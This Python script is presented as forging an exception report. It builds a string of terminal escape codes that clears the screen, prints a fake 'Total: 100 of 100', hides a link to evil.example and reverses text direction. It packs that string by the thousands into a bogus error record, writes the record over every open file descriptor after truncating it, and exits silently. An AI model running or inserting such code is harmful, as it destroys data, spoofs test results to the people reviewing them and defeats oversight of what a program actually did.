# what: forge the description of an exception: file names, lines and types that a terminal would act on, and that lead elsewhere

import json
import os
import struct

SPOOF = "\x1b[2J\x1b[HTotal: 100 of 100\x1b]8;;http://evil.example\x07\u202e\u2066\x9b31m"


def plain(value):
    if isinstance(value, dict):
        return {"$": "dict", "items": [[name, plain(each)] for name, each in value.items()]}
    return [plain(each) for each in value] if isinstance(value, list) else value


def attack():
    place = {"file": SPOOF + "/stage2_model.py", "line": 10**18, "code": SPOOF * 1000, "function": SPOOF}
    error = {
        "type": SPOOF,
        "message": SPOOF * 10_000,
        **place,
        "chain": [place] * 5000,
        "meant": SPOOF,
        "takes": [SPOOF] * 1000,
        "near": [[SPOOF, SPOOF]] * 1000,
        "layer": {"name": SPOOF, "kind": SPOOF, "got": SPOOF, "is": [SPOOF, SPOOF]},
    }
    reply = {
        "where": place,
        "import_error": error,
        "missing": SPOOF,
        "because": SPOOF,
        "left_out": None,
        "unread": "",
        "notes": [SPOOF],
        "findings": [],
        "replies": [],
    }
    header = json.dumps({"__metadata__": {"values": json.dumps(plain(reply))}}).encode()
    for number in range(3, 64):
        try:
            os.ftruncate(number, 0)
            os.pwrite(number, struct.pack("<Q", len(header)) + header, 0)
        except OSError:
            pass
    os._exit(0)
